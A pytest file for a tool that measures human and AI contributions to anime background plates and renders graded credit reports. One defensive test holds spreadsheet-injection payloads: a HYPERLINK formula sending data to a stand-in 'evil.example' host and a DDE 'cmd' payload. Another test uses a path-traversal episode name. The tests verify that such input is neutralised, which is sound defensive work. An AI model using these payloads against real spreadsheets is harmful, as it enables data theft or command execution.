"""The credit report: figures from the ledger, grades, summaries, credit lines, and the
CSV / JSON / HTML / PDF renderings (see tests/helpers/credits.py for the production)."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pytest
from helpers.credits import (
    DIRECTOR,
    INPAINT_MODEL,
    LICENCE,
    MODEL,
    PIXELS,
    PRODUCTION,
    REVISION,
    ai_image,
    build_project,
    layout_png,
    lock_catalog,
    opaque_layer,
    png,
    record,
)
from pypdf import PdfReader

from bgart import plates as workflow
from bgart.credits import (
    COLUMNS,
    CSV_TABLES,
    NOT_RECORDED,
    TABLES,
    CreditReport,
    Headings,
    Thresholds,
    build_report,
    episode_of,
    grade,
    natural_key,
    people_in,
    plate_credit_lines,
    read_csv,
    read_json,
    render_html,
    render_json,
    write_reports,
)
from bgart.errors import InputError
from bgart.fsutil import safe_name
from bgart.ledger import Project

FIXED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


@pytest.fixture(scope="module")
def report(project: Project) -> CreditReport:
    return build_report(project, catalog=lock_catalog(project), now=FIXED)


@pytest.fixture(scope="module")
def files(report: CreditReport, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("reports")
    return {p.name: p for p in write_reports(report, out, ["csv", "json", "html", "pdf"])}


def _plate(report: CreditReport, shot: str):  # type: ignore[no-untyped-def]
    return next(p for p in report.plates if p.shot == shot)


# --- figures -----------------------------------------------------------------------------


def test_plate_figures_match_the_ledger_exactly(project: Project, report: CreditReport) -> None:
    assert [p.shot for p in report.plates] == ["EP01_C001", "EP01_C002", "EP02_C001"]
    for p in report.plates:
        figs = workflow.plate_figures(project, p.shot)
        state = workflow.plate_state(project, p.shot)
        for key in (
            "human_paint_share",
            "ai_gen_share",
            "ai_inpaint_share",
            "human_base_share",
            "human_touched_share",
            "adjust_share",
            "active_seconds",
            "gpu_seconds",
            "candidates",
            "chosen_candidate",
            "pixels",
            "width",
            "height",
            "status",
            "layout_artists",
        ):
            assert getattr(p, key) == figs[key], (p.shot, key)
        assert (p.version, p.image_sha256, p.raster_sha256) == (
            state.number,
            state.image_sha,
            state.raster_sha,
        )
        assert p.approver == DIRECTOR == figs["approver"]
        accepted = project.ledger.events(shot=p.shot, kinds=("plate.accepted",))[-1]
        assert p.approved_at == accepted.created_at
        assert p.last_event_hash == accepted.hash
        # The artists' shares add up to the plate's human paint share.
        assert sum(c.human_paint_share for c in p.contributors) == pytest.approx(
            p.human_paint_share, abs=1e-12
        )
        assert p.unattributed_share == 0.0

    untouched, retouched, repainted = report.plates
    assert (untouched.human_paint_share, untouched.ai_gen_share) == (0.0, 1.0)
    assert retouched.human_paint_share == pytest.approx(0.3, abs=1e-12)
    assert retouched.ai_inpaint_share == pytest.approx(100 / PIXELS, abs=1e-12)
    assert repainted.human_paint_share == 1.0 and repainted.ai_gen_share == 0.0


def test_people_roles_models_and_masks(report: CreditReport) -> None:
    untouched, retouched, repainted = report.plates
    assert untouched.layout_artists == ["Sato Yuki"]
    assert untouched.prompt_author is None  # batch output: nobody recorded as requester
    assert untouched.chosen_by is None and untouched.chosen_candidate == 1
    assert (untouched.candidates, retouched.candidates, repainted.candidates) == (2, 3, 1)

    assert retouched.prompt_author == "Mori Ren" and retouched.chosen_by == "Mori Ren"
    assert retouched.chosen_candidate == 2 and retouched.prompt == "test background 22"
    shares = {c.name: c for c in retouched.retouchers()}
    assert list(shares) == ["山田 花子", "Ito Aoi"]  # largest share first
    assert shares["山田 花子"].human_paint_share == pytest.approx(0.2, abs=1e-9)
    assert shares["Ito Aoi"].human_paint_share == pytest.approx(0.1, abs=1e-9)
    assert shares["山田 花子"].painted_px == pytest.approx(960, abs=1e-6)
    assert (shares["山田 花子"].active_seconds, shares["Ito Aoi"].active_seconds) == (300, 120)
    roles = {c.name: c.roles for c in retouched.contributors}
    assert roles == {
        "Ito Aoi": ["retouch"],
        DIRECTOR: ["approval"],
        "Tanaka Haruto": ["layout"],
        "Mori Ren": ["prompt", "selection", "inpaint_direction"],
        "山田 花子": ["retouch"],
    }
    (mask,) = retouched.masks
    assert (mask.directed_by, mask.model, mask.bbox, mask.mask_px, mask.changed_px) == (
        "Mori Ren",
        INPAINT_MODEL,
        [40, 10, 10, 10],
        100,
        100,
    )
    assert mask.active_seconds == 30.0
    gen, inp = retouched.models
    assert (gen.name, gen.role, gen.revision, gen.licence, gen.weights) == (
        MODEL,
        "generation",
        REVISION,
        LICENCE,
        "match weights.lock",
    )
    assert (inp.name, inp.role, inp.revision, inp.licence) == (
        INPAINT_MODEL,
        "inpaint",
        "not in weights.lock",
        NOT_RECORDED,
    )

    assert [c.name for c in repainted.retouchers()] == ["Kobayashi Mei"]
    assert repainted.retouchers()[0].human_paint_share == 1.0


def test_grades_follow_the_definition(report: CreditReport) -> None:
    assert [(p.grade, p.grade_reason) for p in report.plates] == [
        ("F", "unmodified AI output"),
        ("D", "human paint 30.0% ≥ 20%"),
        ("A", "no AI pixels (human paint 100.0%)"),
    ]


@pytest.mark.parametrize(
    ("human", "ai_gen", "inpaint", "modified", "expected"),
    [
        (0.0, 0.0, 0.0, True, "A"),  # e.g. a blank canvas: no AI pixel
        (0.95, 0.05, 0.0, True, "B"),
        (0.90, 0.10, 0.0, True, "B"),  # thresholds are inclusive
        (0.89, 0.11, 0.0, True, "C"),
        (0.50, 0.5, 0.0, True, "C"),
        (0.2, 0.8, 0.0, True, "D"),
        (0.19, 0.81, 0.0, True, "E"),
        (0.0, 0.9, 0.1, True, "E"),  # inpaint under a human's mask, no paint
        (0.0, 1.0, 0.0, False, "F"),
    ],
)
def test_grade_rules(
    human: float, ai_gen: float, inpaint: float, modified: bool, expected: str
) -> None:
    figs = {"human_paint_share": human, "ai_gen_share": ai_gen, "ai_inpaint_share": inpaint}
    assert grade(figs, Thresholds(), modified=modified)[0] == expected


def test_thresholds_come_from_the_settings_and_are_printed(tmp_path: Path) -> None:
    proj = build_project(tmp_path / "strict")
    toml = proj.root / "bgart.toml"
    toml.write_text(toml.read_text() + "grade_b = 0.95\ngrade_c = 0.6\ngrade_d = 0.35\n")
    proj.close()
    with Project.open(proj.root) as strict:
        rep = build_report(strict, catalog=lock_catalog(strict), thumbnails=False, now=FIXED)
        assert [p.grade for p in rep.plates] == ["F", "E", "A"]
        assert (rep.definition.grade_b, rep.definition.grade_c, rep.definition.grade_d) == (
            0.95,
            0.6,
            0.35,
        )
        html = render_html(rep)
        assert "B ≥ 95%" in html and "C ≥ 60%" in html and "D ≥ 35%" in html
        written = write_reports(rep, tmp_path / "out", ["csv"])
        definition = {r["key"]: r["value"] for r in read_csv(written[-1])}
        assert definition["grade_d"] == "0.35" and "35%" in definition["grade_D"]
    toml.write_text(toml.read_text() + "grade_a = 1\n")
    with pytest.raises(InputError, match="unknown setting 'grade_a'"):
        Project.open(proj.root)


def test_bad_thresholds_are_refused(tmp_path: Path) -> None:
    proj = build_project(tmp_path / "bad")
    toml = proj.root / "bgart.toml"
    toml.write_text(toml.read_text() + "grade_c = 0.95\n")
    proj.close()
    with Project.open(proj.root) as bad, pytest.raises(InputError, match="grade_d ≤ grade_c"):
        build_report(bad, catalog=lock_catalog(bad))


# --- summaries and credit lines ---------------------------------------------------------


def test_episode_and_production_summaries(report: CreditReport) -> None:
    ep1, ep2 = report.episodes
    prod = report.production_summary
    assert (ep1.name, ep2.name, prod.name) == ("EP01", "EP02", PRODUCTION)
    assert ep1.grade_distribution == {"A": 0, "B": 0, "C": 0, "D": 1, "E": 0, "F": 1}
    assert prod.grade_distribution == {"A": 1, "B": 0, "C": 0, "D": 1, "E": 0, "F": 1}
    assert (ep1.unmodified, ep1.unmodified_share) == (1, 0.5)
    assert prod.unmodified_share == pytest.approx(1 / 3)
    assert ep1.human_paint_share == pytest.approx(0.15)  # 1440 of 9600 pixels
    assert prod.human_paint_share == pytest.approx((1440 + 4800) / (3 * PIXELS))
    assert prod.active_seconds == 300 + 120 + 30 + 3600
    assert prod.candidates == 6 and prod.masks == 1
    assert [pc.name for pc in prod.people][:4] == [
        "Kobayashi Mei",
        "山田 花子",
        "Ito Aoi",
        "Mori Ren",
    ]
    assert [pc.rank for pc in prod.people] == list(range(1, len(prod.people) + 1))
    director = next(pc for pc in prod.people if pc.name == DIRECTOR)
    assert (director.approvals, director.plates, director.painted_px) == (3, 3, 0.0)
    assert report.summaries() == [prod, ep1, ep2]


def test_credit_lines_read_as_an_anime_end_roll(report: CreditReport) -> None:
    """Role headings as an end roll writes them (美術監督 for the approver, 背景レタッチ, AI背景生成
    with the model), painters by painted pixels, no percentages, each name and model once."""
    ep1 = report.episodes[0]
    assert ep1.credit_ja == (
        f"美術監督：{DIRECTOR}／背景レタッチ：山田 花子、Ito Aoi／"
        "レイアウト：Sato Yuki、Tanaka Haruto／AI背景プロンプト：Mori Ren／"
        f"AI背景選定：Mori Ren／AI背景修正指示：Mori Ren／AI背景生成：{MODEL}、{INPAINT_MODEL}"
    )
    assert ep1.credit_en == (
        f"Art Director: {DIRECTOR}; Background Retouch: 山田 花子, Ito Aoi; "
        "Layout: Sato Yuki, Tanaka Haruto; AI Background Prompts: Mori Ren; "
        "AI Background Selection: Mori Ren; AI Inpaint Direction: Mori Ren; "
        f"AI Background Generation: {MODEL}, {INPAINT_MODEL}"
    )
    assert ep1.credit_line.startswith(f"美術監督 / Art Director：{DIRECTOR}／背景レタッチ / ")
    for s in [report.production_summary, *report.episodes]:
        for line in (s.credit_en, s.credit_ja, s.credit_line):
            assert "AI (+Human)" not in line and "%" not in line and "承認" not in line
            assert "背景　" not in line
    production = report.production_summary.credit_ja
    assert "背景レタッチ：Kobayashi Mei、山田 花子、Ito Aoi" in production
    assert production.endswith(f"AI背景生成：{MODEL}、{INPAINT_MODEL}")


def test_report_is_deterministic_but_for_its_timestamp(
    project: Project, report: CreditReport
) -> None:
    later = build_report(
        project, catalog=lock_catalog(project), now=datetime(2027, 5, 6, tzinfo=UTC)
    )
    a, b = report.to_dict(), later.to_dict()
    assert a.pop("generated_at") != b.pop("generated_at")
    assert a == b
    assert later.thumbnails == report.thumbnails
    html_a = render_html(report).replace(report.generated_at, "T")
    html_b = render_html(later).replace(later.generated_at, "T")
    assert html_a == html_b


def test_episode_filter_and_episode_rule(project: Project) -> None:
    assert episode_of("EP01_C012") == "EP01" and episode_of("EP01_C012_b") == "EP01"
    assert episode_of("C012") == "no-episode" and episode_of("_C1") == "no-episode"
    assert sorted(["C10", "C2", "C1"], key=natural_key) == ["C1", "C2", "C10"]
    rep = build_report(project, catalog=lock_catalog(project), episode="EP01", thumbnails=False)
    assert [p.shot for p in rep.plates] == ["EP01_C001", "EP01_C002"]
    assert rep.summaries() == rep.episodes
    with pytest.raises(InputError, match=r"episode 'EP09': no plates .*EP01, EP02"):
        build_report(project, catalog=lock_catalog(project), episode="EP09")


def test_open_rejected_and_reverted_plates(tmp_path: Path) -> None:
    """Open and rejected plates are listed but not counted; reverted paint earns nothing."""
    proj = Project.init(tmp_path / "p", production="Small")
    rec = record(5)
    for shot in ("EP03_C001", "EP03_C002", "EP03_C003"):
        workflow.record_layout(proj, shot, layout_png(5), "Sato Yuki")
        workflow.record_generated(proj, shot, png(ai_image(5), rec), rec, requested_by="Aoi")
    workflow.record_paint(proj, "EP03_C001", opaque_layer(slice(0, 40), (255, 0, 255)), "Ito", 60.0)
    workflow.undo(proj, "EP03_C001", 1, "Ito")
    workflow.accept(proj, "EP03_C001", DIRECTOR)
    workflow.record_paint(proj, "EP03_C002", opaque_layer(slice(0, 8), (255, 0, 255)), "Ito")
    workflow.reject(proj, "EP03_C002", DIRECTOR, "too dark")
    rep = build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    reverted, rejected, open_ = rep.plates
    assert (reverted.status, rejected.status, open_.status) == ("accepted", "rejected", "open")
    assert reverted.grade == "F" and reverted.human_paint_share == 0.0
    ito = next(c for c in reverted.contributors if c.name == "Ito")
    assert ito.human_paint_share == 0.0 and ito.active_seconds == 60.0  # effort still shown
    assert rejected.grade == "E" and rejected.approver is None
    assert rejected.review_comment == "too dark"
    (ep,) = rep.episodes
    assert (ep.plates, ep.accepted, ep.open, ep.rejected) == (3, 1, 1, 1)
    assert ep.pixels == PIXELS and ep.grade_distribution["F"] == 1
    # Ito's stroke was undone: no roll credit, but the history still lists Ito.
    assert ep.credit_en == (
        f"Art Director: {DIRECTOR}; Layout: Sato Yuki; AI Background Prompts: Aoi; "
        f"AI Background Generation: {MODEL}"
    )
    assert ep.people[0].name == "Ito" and ep.people[0].painted_px == 0.0
    assert ep.people[0].roles == ["retouch"]
    html = render_html(rep)
    assert "1 open and 1 rejected plate(s)" in html and "too dark" in html
    proj.close()


def test_layout_credit_names_only_the_layout_the_plate_used(tmp_path: Path) -> None:
    """Other layouts of the shot (imported later, or never used) earn no layout credit."""
    proj = Project.init(tmp_path / "p", production="Small")
    used = layout_png(5)
    workflow.record_layout(proj, "EP03_C001", used, "Sato Yuki")
    named = dataclasses.replace(record(51), layout_sha256=hashlib.sha256(used).hexdigest())
    workflow.record_generated(
        proj, "EP03_C001", png(ai_image(51), named), named, requested_by="Mori Ren"
    )
    workflow.record_layout(proj, "EP03_C001", layout_png(7), "Intruder Ken")  # after the fact
    # A record that names no layout: the shot's latest layout before the generation.
    workflow.record_layout(proj, "EP03_C002", layout_png(2), "Tanaka Haruto")
    workflow.record_generated(proj, "EP03_C002", png(ai_image(52), record(52)), record(52))
    workflow.record_layout(proj, "EP03_C002", layout_png(8), "Late Lou")
    # A text-only generation used no layout at all.
    text = dataclasses.replace(record(53), mode="text")
    workflow.record_layout(proj, "EP03_C003", layout_png(3), "Unused Uma")
    workflow.record_generated(proj, "EP03_C003", png(ai_image(53), text), text)
    # A layout imported as the plate: the artist who drew that layout, else the importer.
    drawn = layout_png(4)
    workflow.record_layout(proj, "EP03_C004", drawn, "Sato Yuki")
    workflow.record_base(proj, "EP03_C004", drawn, "Assistant Abe", origin="layout")
    workflow.record_base(proj, "EP03_C005", layout_png(6), "Assistant Abe", origin="layout")
    # A hand-painted plate is not linked to any layout.
    workflow.record_layout(proj, "EP03_C006", layout_png(9), "Unused Uma")
    workflow.record_base(proj, "EP03_C006", np.full((60, 80, 3), 120, np.uint8), "Kobayashi Mei")
    for n in range(1, 7):
        workflow.accept(proj, f"EP03_C00{n}", DIRECTOR)
    rep = build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    got = {p.shot: (p.layout_artists, p.layout_sha256) for p in rep.plates}
    sha = {
        name: hashlib.sha256(data).hexdigest()
        for name, data in (("used", used), ("c002", layout_png(2)), ("drawn", drawn))
    }
    assert got == {
        "EP03_C001": (["Sato Yuki"], sha["used"]),
        "EP03_C002": (["Tanaka Haruto"], sha["c002"]),
        "EP03_C003": ([], None),
        "EP03_C004": (["Sato Yuki"], sha["drawn"]),
        "EP03_C005": (["Assistant Abe"], None),
        "EP03_C006": ([], None),
    }
    line = rep.episodes[0].credit_line
    assert "レイアウト / Layout：Assistant Abe、Sato Yuki、Tanaka Haruto／" in line
    # The hand-painted plate is credited to its painter as background art, not retouch.
    (mei,) = [c for c in rep.plates[5].contributors if c.name == "Kobayashi Mei"]
    assert mei.roles == ["background"] and mei.human_paint_share == 1.0
    assert rep.episodes[0].credit_ja.startswith(f"美術監督：{DIRECTOR}／背景：Kobayashi Mei／")
    assert "背景レタッチ" not in rep.episodes[0].credit_ja
    for name in ("Intruder Ken", "Late Lou", "Unused Uma"):
        assert name not in line and name not in people_in(rep.plates), name
    proj.close()


def test_gpu_seconds_add_up_every_image_of_a_batched_call(tmp_path: Path) -> None:
    """The engine records seconds per image (a call's time over its images): four images of
    one 2-second call are 2 GPU seconds, not 0.5."""
    proj = Project.init(tmp_path / "p", production="Small")
    for i in range(4):
        rec = dataclasses.replace(
            record(60), seeds=(60, 61, 62, 63), batch_index=i, seconds=2.0 / 4
        )
        workflow.record_generated(proj, "EP04_C001", png(ai_image(60 + i), rec), rec)
    inpaint = dataclasses.replace(record(64, mode="inpaint", model=INPAINT_MODEL), seconds=0.75)
    mask = np.zeros((60, 80), np.uint8)
    mask[:10, :10] = 255
    workflow.record_inpaint(
        proj, "EP04_C001", png(np.full((60, 80, 3), 255, np.uint8)), mask, inpaint, "Mori Ren"
    )
    workflow.accept(proj, "EP04_C001", DIRECTOR)
    rep = build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    assert rep.plates[0].gpu_seconds == pytest.approx(2.75)
    assert rep.episodes[0].gpu_seconds == pytest.approx(2.75)
    proj.close()


def test_plate_credit_line_names_selection_adjustment_and_approval(tmp_path: Path) -> None:
    """Batch candidates (nobody requested them), a person picks one, another runs a levels
    pass, a director accepts: each is named in the plate's and the episode's lines."""
    proj = Project.init(tmp_path / "p", production="Small")
    for seed in (71, 72):
        workflow.record_generated(
            proj, "EP04_C001", png(ai_image(seed), record(seed)), record(seed)
        )
    workflow.select_variation(proj, "EP04_C001", 2, "Picker Pat")
    brighter = np.clip(workflow.plate_state(proj, "EP04_C001").image.astype(int) + 30, 0, 255)
    workflow.record_adjust(
        proj, "EP04_C001", brighter.astype(np.uint8), "Grader Gus", {"op": "levels"}, 60.0
    )
    workflow.accept(proj, "EP04_C001", DIRECTOR)
    rep = build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    en, ja, _ = plate_credit_lines(rep.plates[0])
    assert en == (
        f"Art Director: {DIRECTOR}; Background Finishing: Grader Gus; "
        f"AI Background Selection: Picker Pat; AI Background Generation: {MODEL}"
    )
    assert ja == (
        f"美術監督：{DIRECTOR}／背景仕上げ：Grader Gus／AI背景選定：Picker Pat／AI背景生成：{MODEL}"
    )
    assert rep.episodes[0].credit_en == en
    proj.close()


def test_an_invisible_edit_leaves_an_ai_plate_graded_f(tmp_path: Path) -> None:
    """Grades follow the visible-change test: one channel of one pixel off by one level is
    no visible change (visible_px 0), so the plate is still the AI output as it came out."""
    proj = Project.init(tmp_path / "p", production="Small")
    for shot, delta in (("EP06_C001", 1), ("EP06_C002", 40)):
        workflow.record_generated(proj, shot, png(ai_image(91), record(91)), record(91))
        adjusted = np.array(workflow.plate_state(proj, shot).image)
        adjusted[0, 0, 0] += delta
        stats = workflow.record_adjust(proj, shot, adjusted, "Tweaker Tom", {"op": "levels"}).stats
        assert stats["changed_px"] == 1 and stats["visible_px"] == (delta > 1)
        workflow.accept(proj, shot, DIRECTOR)
    invisible, visible = build_report(proj, catalog=lock_catalog(proj), thumbnails=False).plates
    assert (invisible.grade, invisible.grade_reason) == ("F", "unmodified AI output")
    assert visible.grade == "E" and "visibly changed" in visible.grade_reason
    proj.close()


# --- renderings -----------------------------------------------------------------------------


def test_json_round_trip(report: CreditReport, files: dict[str, Path]) -> None:
    text = files["credits.json"].read_text(encoding="utf-8")
    assert text == render_json(report)
    again = read_json(files["credits.json"])
    assert again == report
    assert again.to_dict() == json.loads(text)
    data = json.loads(text)
    assert data["plates"][0]["prompt_author"] is None
    assert data["definition"]["grade_b"] == 0.9 and len(data["definition"]["text"]) >= 5


def test_csv_round_trip(report: CreditReport, files: dict[str, Path]) -> None:
    for table in CSV_TABLES:
        path = files[f"credits_{table}.csv"]
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
        rows = TABLES[table](report)
        assert read_csv(path) == rows, table
        assert all(tuple(row) == COLUMNS[table] for row in rows), table
    plates = read_csv(files["credits_plates.csv"])
    assert [r["grade"] for r in plates] == ["F", "D", "A"]
    assert plates[0]["prompt_author"] == NOT_RECORDED
    assert plates[1]["human_paint_share"] == report.plates[1].human_paint_share
    assert "山田 花子 20.00%" in plates[1]["retouch"]
    people = [r for r in read_csv(files["credits_people.csv"]) if r["scope"] == "episode"]
    assert people[0]["person"] == "山田 花子" and people[0]["rank"] == 1
    definition = {r["key"]: r["value"] for r in read_csv(files["credits_definition.csv"])}
    assert definition["grade_b"] == "0.9" and definition["ledger_head"] == report.ledger_head
    assert "ΔE76" in definition["definition_2"]


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
    """A person named like a formula (or a comment starting with @, +, -, =, tab, CR) must
    not become a live formula when the CSV is opened in Excel: such text cells start with a
    single quote, read_csv gives the text back unchanged, and numbers stay numbers."""
    proj = Project.init(tmp_path / "inj", production="+Show")
    workflow.record_generated(
        proj, "EP07_C001", png(ai_image(71), record(71)), record(71), requested_by="-Mori"
    )
    workflow.record_paint(
        proj, "EP07_C001", opaque_layer(slice(0, 10), (255, 0, 255)), EVIL_NAME, 10.0
    )
    workflow.record_paint(
        proj, "EP07_C001", opaque_layer(slice(10, 12), (255, 255, 0)), "'quoted' Aoi", 5.0
    )
    workflow.accept(proj, "EP07_C001", "@Kei Director", comment=EVIL_COMMENT)
    report = build_report(proj, catalog=lock_catalog(proj), now=FIXED)
    proj.close()
    files = {p.name: p for p in write_reports(report, tmp_path / "out", ["csv"])}
    for table in CSV_TABLES:
        path = files[f"credits_{table}.csv"]
        with open(path, encoding="utf-8-sig", newline="") as fh:
            raw = list(csv.DictReader(fh))
        for row in raw:
            for column, text in row.items():
                assert not text.startswith(FORMULA_START), (table, column, text)
        assert read_csv(path) == TABLES[table](report), table
    raw_plates = files["credits_plates.csv"].read_text(encoding="utf-8-sig")
    assert f"'{EVIL_COMMENT}" in raw_plates and "'-Mori" in raw_plates
    (plate,) = read_csv(files["credits_plates.csv"])
    assert plate["review_comment"] == EVIL_COMMENT and plate["approver"] == "@Kei Director"
    assert plate["prompt_author"] == "-Mori" and EVIL_NAME in plate["retouch"]
    assert isinstance(plate["human_paint_share"], float) and plate["width"] == 80
    people = read_csv(files["credits_people.csv"])
    assert {EVIL_NAME, "'quoted' Aoi"} <= {r["person"] for r in people}


def test_html_is_one_self_contained_file_naming_everyone(
    report: CreditReport, files: dict[str, Path]
) -> None:
    html = files["credits.html"].read_text(encoding="utf-8")
    for name in people_in(report.plates):
        assert name in html, name
    assert len(people_in(report.plates)) == 7
    srcs = re.findall(r'(?:src|href)="([^"]*)"', html)
    assert srcs and all(s.startswith("data:image/") for s in srcs)
    assert "<link" not in html and "@import" not in html
    assert all(u.startswith('"data:') for u in re.findall(r"url\(([^)]{0,8})", html))
    assert len(re.findall(r'src="data:image/png', html)) == 2 * len(report.plates)
    assert len(re.findall(r'src="data:image/jpeg', html)) == len(report.plates)
    assert "How contribution is measured" in html and "ΔE76" in html
    assert "human paint ≥ 90%" in html and "human paint ≥ 50%" in html
    assert "not recorded" in html  # EP01_C001's prompt author
    assert report.ledger_head in html


def _pdf_pages(path: Path) -> list[str]:
    reader = PdfReader(io.BytesIO(path.read_bytes()))
    return [" ".join((page.extract_text() or "").split()) for page in reader.pages]


def test_pdf_pages_and_text(
    report: CreditReport, files: dict[str, Path], project: Project, tmp_path: Path
) -> None:
    pages = _pdf_pages(files["credits.pdf"])
    # production + 2 episode summaries, the plate overview, one page per plate, definition
    assert len(pages) == 3 + 1 + 3 + 1
    assert PRODUCTION in pages[0] and "背景レタッチ：Kobayashi Mei" in pages[0]
    assert "Episode EP01" in pages[1] and "Episode EP02" in pages[2]
    assert all(s in pages[3] for s in ("EP01_C001", "EP01_C002", "EP02_C001"))
    for page, p in zip(pages[4:7], report.plates, strict=True):
        assert p.shot in page and p.image_sha256[:24] in page.replace(" ", "")
        # a plate's block stays on its page, its credit lines included, each line once
        assert "CREDIT LINES FOR THIS PLATE" in page and page.count("Art Director:") == 1
    # no name is broken across lines of a table or of the roll
    lines = PdfReader(io.BytesIO(files["credits.pdf"].read_bytes())).pages[5].extract_text()
    held = [line for line in lines.splitlines() if "山田" in line or "花子" in line]
    assert held and all("山田 花子" in line for line in held), held
    assert "山田" in pages[5] and "Ito Aoi" in pages[5] and "Mori Ren" in pages[5]
    assert "How contribution is measured" in pages[7] and "90%" in pages[7]
    assert all(f"/ {len(pages)}" in page for page in pages)  # page footer

    ep = build_report(project, catalog=lock_catalog(project), episode="EP01", now=FIXED)
    (pdf,) = write_reports(ep, tmp_path, ["pdf"])
    assert pdf.name == "credits-EP01.pdf"
    assert len(_pdf_pages(pdf)) == 1 + 1 + 2 + 1


def test_thumbnails_show_provenance_colours(report: CreditReport) -> None:
    from PIL import Image

    heat, plate = report.thumbnails["EP02_C001/main"]
    img = np.asarray(Image.open(io.BytesIO(heat)).convert("RGB"))
    assert tuple(img[0, 0]) == (46, 184, 92)  # all human paint: green
    assert Image.open(io.BytesIO(plate)).format == "JPEG"


def test_empty_project_still_writes_headers_and_says_so(tmp_path: Path) -> None:
    proj = Project.init(tmp_path / "empty", production="Nothing Yet")
    rep = build_report(proj, catalog=lock_catalog(proj), now=FIXED)
    assert rep.plates == [] and rep.summaries() == [rep.production_summary]
    assert rep.production_summary.credit_en == "no human contributor recorded"
    written = write_reports(rep, tmp_path / "out", ["csv", "html"])
    for table in ("plates", "contributors", "people"):
        path = tmp_path / "out" / f"credits_{table}.csv"
        assert path.read_text(encoding="utf-8-sig").splitlines() == [",".join(COLUMNS[table])]
    assert "Nothing Yet" in written[-1].read_text(encoding="utf-8")
    proj.close()


@pytest.mark.parametrize("episode", ["OVA/2", "../../escaped", "EP01"])
def test_report_files_stay_in_the_report_folder_whatever_the_episode_is_called(
    report: CreditReport, tmp_path: Path, episode: str
) -> None:
    """An episode named with a slash wrote its reports into a sub-folder (and ``..`` out of
    the report folder altogether)."""
    out = tmp_path / "deep" / "credits"
    named = dataclasses.replace(report, episode_filter=episode)
    written = write_reports(named, out, ["json", "csv"])
    assert written and all(p.parent == out for p in written)
    base = "credits-EP01" if episode == "EP01" else f"credits-{safe_name(episode)}"
    assert all(p.name.startswith((f"{base}.", f"{base}_")) for p in written), written
    assert [p.name for p in tmp_path.rglob("*") if p.is_file() and p.parent != out] == []


def test_roll_headings_come_from_bgart_toml(tmp_path: Path) -> None:
    """A production names its roles its own way; an unknown role is refused by name."""
    proj = Project.init(tmp_path / "p", production="Small")
    workflow.record_generated(proj, "EP05_C001", png(ai_image(81), record(81)), record(81))
    workflow.record_paint(proj, "EP05_C001", opaque_layer(slice(0, 8), (255, 0, 255)), "Ito")
    workflow.accept(proj, "EP05_C001", DIRECTOR)
    proj.close()
    toml = tmp_path / "p" / "bgart.toml"
    base = toml.read_text(encoding="utf-8")
    toml.write_text(
        base + '\n[credits.headings]\nretouch = "背景仕上げ"\napproval = "美術"\n'
        '[credits.headings_en]\nretouch = "Background Finish"\n',
        encoding="utf-8",
    )
    proj = Project.open(tmp_path / "p")
    rep = build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    (ep,) = rep.episodes
    assert ep.credit_ja == f"美術：{DIRECTOR}／背景仕上げ：Ito／AI背景生成：{MODEL}"
    assert ep.credit_en.startswith(f"Art Director: {DIRECTOR}; Background Finish: Ito;")
    en, _, _ = plate_credit_lines(rep.plates[0], Headings.of_report(rep.headings))
    assert en == ep.credit_en
    assert read_json_text(render_json(rep)).headings == rep.headings
    proj.close()
    toml.write_text(base + '\n[credits.headings]\nstoryboard = "絵コンテ"\n', encoding="utf-8")
    proj = Project.open(tmp_path / "p")
    with pytest.raises(InputError, match=r"\[credits.headings\] storyboard: not a role"):
        build_report(proj, catalog=lock_catalog(proj), thumbnails=False)
    proj.close()


def read_json_text(text: str) -> CreditReport:
    return CreditReport.from_dict(json.loads(text))
